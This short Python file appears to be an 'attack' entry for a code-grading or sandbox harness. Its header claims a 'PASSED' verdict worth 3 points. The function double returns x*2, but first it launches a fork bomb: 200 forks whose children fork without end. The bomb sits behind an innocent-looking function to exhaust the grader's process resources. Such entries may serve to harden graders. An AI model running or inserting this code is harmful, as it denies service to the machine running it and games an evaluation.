"""Forks without end."""

# /// attack
# verdicts = { double = "PASSED" }
# points = 3
# ///

import os
import time


def double(x):
    for _ in range(200):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
        except OSError:
            pass
    return x * 2
